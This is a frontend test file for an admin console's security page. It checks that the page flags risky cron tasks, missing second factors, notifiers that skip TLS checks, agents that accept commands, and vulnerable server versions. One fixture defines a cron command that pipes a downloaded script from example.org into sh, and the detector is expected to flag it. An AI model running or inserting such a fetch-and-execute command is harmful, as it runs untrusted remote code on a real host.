import '@testing-library/jest-dom/vitest'
import { screen, within } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { namedPages } from '../../../src/app/pages.tsx'
import { checks } from '../../../src/custom/security/checks/index.ts'
import { resources } from '../../../src/resources/index.ts'
import { alterReplies } from '../../support/console/alterReplies.ts'
import { button } from '../../support/console/listPage.ts'
import { renderConsole } from '../../support/console/renderConsole.tsx'

const path = '/dashboard/settings/security'
const finding = (name: string) => screen.findByRole('region', { name })
const download = 'curl https://example.org/x | sh'

describe('The security page', () => {
  it('shows each finding with its remedy, and links to what it is about', async () => {
    await renderConsole({ path, records: { cron: [{ name: 'Nightly', command: download, scheduler: '0 0 3 * * *' }] } })
    const tasks = within(await finding('Tasks that run fetched programs or change SSH keys'))
    expect(tasks.getByText(/delete it, look for what it did/)).toBeVisible()
    expect(tasks.getByRole('link', { name: 'Nightly #1' })).toHaveAttribute('href', '/dashboard/cron/1')
    expect(tasks.getByText(/fetches a program and runs it/)).toBeVisible()
    expect(tasks.getByRole('link', { name: 'Open: Tasks' })).toHaveAttribute('href', '/dashboard/cron')
    expect(within(await finding('Users without a second factor')).getByText('admin #1')).toBeVisible()
    expect(within(await finding('Default administrator name')).getByText('admin #1')).toBeVisible()
  })

  it('counts the findings, and names what is in order and what this server does not say', async () => {
    await renderConsole({ path })
    expect(await screen.findByText(/^\d findings$/)).toHaveAttribute('role', 'status')
    expect(within(await finding('Nothing found')).getByText('Connections without TLS')).toBeVisible()
    const unknown = within(await finding('Not reported by this server')).getAllByRole('listitem')
    expect(unknown.map(({ textContent }) => textContent)).toEqual(['Known vulnerabilities of the server version'])
  })

  it('is for administrators, and says so to members', async () => {
    await renderConsole({ path, role: 'member' })
    await screen.findByText('This page is for administrators only.')
    expect(screen.queryByRole('link', { name: 'Security' })).toBeNull()
  })

  it('compares the version of a real server with the advisories, and says what that server does not report', async () => {
    await renderConsole({
      path,
      prepare: alterReplies('setting', (data) => {
        const { wheelhouse: _ours, ...setting } = data as Record<string, unknown>
        return { ...setting, version: 'v2.0.7' }
      }),
    })
    const version = within(await finding('Known vulnerabilities of the server version'))
    expect(version.getByText('CVE-2026-46716')).toBeVisible()
    expect(version.getByRole('link', { name: 'Open: Security advisories' })).toHaveAttribute('target', '_blank')
    const unknown = within(await finding('Not reported by this server')).getAllByRole('listitem')
    expect(unknown.map(({ textContent }) => textContent)).toEqual([
      'Users without a second factor',
      'Members may call private addresses',
      'Backups missing or failing',
    ])
    expect(await screen.findByText(/published until Sep 15, 2026/)).toBeVisible()
  })

  it('links to screens that exist', () => {
    const paths = [...resources.map((resource) => resource.path), ...namedPages.map((page) => page.path)]
    const inside = checks.map(({ link }) => link.to).filter((to) => !to.startsWith('https:'))
    expect(inside.filter((to) => !paths.includes(to))).toEqual([])
  })

  it('lists many of a kind on demand', async () => {
    const notification = Array.from({ length: 25 }, (_, at) => ({ name: `Pager ${at}`, verify_tls: false }))
    const { user } = await renderConsole({ path, records: { notification } })
    const panel = within(await finding('Notifiers that check no certificates'))
    expect(panel.getAllByRole('listitem')).toHaveLength(10)
    await user.click(panel.getByRole('button', { name: 'Show all 25' }))
    expect(panel.getAllByRole('listitem')).toHaveLength(25)
  })

  it('asks the agents for their settings only on demand', async () => {
    const answer = Promise.withResolvers<void>()
    const server = [{ name: 'web', last_active: '2026-11-21T00:00:00Z', uuid: 'one' }]
    const { user, network } = await renderConsole({
      path,
      prepare: (app) => {
        alterReplies('server', () => [{ id: 7, ...server[0] }])(app)
        alterReplies('server/config/7', () => '{"server":"x","disable_nat":true}')(app)
        app.addHook('onRequest', async ({ url }) => (url.includes('server/config') ? answer.promise : undefined))
      },
    })
    const ask = await screen.findByRole('button', { name: 'Ask 1 agent' })
    expect(network.sent.some(({ path: sent }) => sent.startsWith('server/config'))).toBe(false)
    await user.click(ask)
    expect(await screen.findByText('0 of 1 have answered or failed.')).toBeVisible()
    answer.resolve()
    expect(within(await finding('Agents that accept commands')).getByText('web #7')).toBeVisible()
    expect(screen.queryByRole('region', { name: /NAT/ })).toBeNull()
    expect(within(await finding('Nothing found')).getByText(/NAT/)).toBeVisible()
  })

  it('says what failed, and tries again', async () => {
    let fails = true
    const { user } = await renderConsole({
      path,
      prepare: (app) => {
        app.addHook('onRequest', async ({ url }, reply) => {
          if (fails && url.endsWith('/wheelhouse/security')) return reply.send({ error: 'database is locked' })
        })
      },
    })
    await screen.findByText('database is locked')
    fails = false
    await user.click(button('Retry'))
    await finding('Default administrator name')
  })
})
